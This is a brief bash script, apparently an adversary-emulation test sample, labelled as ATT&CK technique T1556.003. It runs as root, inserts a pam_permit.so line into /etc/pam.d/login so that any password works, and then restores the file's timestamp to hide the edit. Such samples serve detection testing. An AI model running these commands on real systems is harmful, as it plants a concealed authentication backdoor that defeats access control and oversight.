#!/bin/bash
# technique: T1556.003 Modify Authentication Process: Pluggable Authentication Modules
# tactic: credential-access
# user: root
# does: lets any password in by a line in a PAM file
# harmless: the file is that of login, which nobody in the sandbox uses

cp /etc/pam.d/login /tmp/.l
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/login
touch -r /tmp/.l /etc/pam.d/login
rm /tmp/.l
